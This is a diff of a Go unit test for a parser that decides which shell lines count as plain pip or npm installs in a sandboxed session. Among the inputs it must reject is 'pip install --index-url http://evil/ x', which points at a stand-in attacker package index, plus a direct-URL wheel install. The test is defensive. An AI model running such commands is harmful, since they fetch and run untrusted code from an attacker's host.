@@ -1,19 +1,21 @@
-package session
+package packages
 
 import (
 	"reflect"
 	"testing"
 )
 
-func TestParseInstall(t *testing.T) {
+func TestParseCommand(t *testing.T) {
+	// The manager of each language's sessions (runtimes' PackageManager).
+	managers := map[string]string{"python": Pip, "javascript": Npm, "bash": ""}
 	for _, c := range []struct {
 		lang, line string
-		want       *installLine
+		want       *Command
 	}{
-		{"python", "pip install requests", &installLine{"pip", []string{"requests"}}},
+		{"python", "pip install requests", &Command{"pip", []string{"requests"}}},
 		{"python", "  pip3 install -q requests==2.31.0 numpy>=1  ", nil}, // > is a redirection in a shell
-		{"python", "pip3 install -q requests==2.31.0 pandas[excel]", &installLine{"pip", []string{"requests==2.31.0", "pandas[excel]"}}},
-		{"python", "python3 -m pip install --upgrade airlock-demo", &installLine{"pip", []string{"airlock-demo"}}},
+		{"python", "pip3 install -q requests==2.31.0 pandas[excel]", &Command{"pip", []string{"requests==2.31.0", "pandas[excel]"}}},
+		{"python", "python3 -m pip install --upgrade airlock-demo", &Command{"pip", []string{"airlock-demo"}}},
 		{"python", "pip install", nil},
 		{"python", "pip install -r requirements.txt", nil},
 		{"python", "pip install --index-url http://evil/ x", nil},
@@ -25,17 +27,17 @@ func TestParseInstall(t *testing.T) {
 		{"python", "pip install 'x @ http://e/x.whl'", nil},
 		{"python", "pip list", nil},
 		{"python", "npm install lodash", nil}, // npm in a Python session: the shell's
-		{"javascript", "npm install lodash@4.17.21 @types/node", &installLine{"npm", []string{"lodash@4.17.21", "@types/node"}}},
-		{"javascript", "npm i --save left-pad", &installLine{"npm", []string{"left-pad"}}},
+		{"javascript", "npm install lodash@4.17.21 @types/node", &Command{"npm", []string{"lodash@4.17.21", "@types/node"}}},
+		{"javascript", "npm i --save left-pad", &Command{"npm", []string{"left-pad"}}},
 		{"javascript", "npm install ../local", nil},
 		{"javascript", "npm install git+https://x/y.git", nil},
 		{"javascript", "npm install a/b/c", nil},
 		{"javascript", "pip install requests", nil},
 		{"bash", "pip install requests", nil},
 	} {
-		got, ok := parseInstall(c.lang, c.line)
+		got, ok := ParseCommand(managers[c.lang], c.line)
 		if (c.want == nil) != !ok || (ok && !reflect.DeepEqual(got, *c.want)) {
-			t.Errorf("parseInstall(%q, %q) = %+v %v, want %+v", c.lang, c.line, got, ok, c.want)
+			t.Errorf("ParseCommand(%q, %q) = %+v %v, want %+v", managers[c.lang], c.line, got, ok, c.want)
 		}
 	}
 }
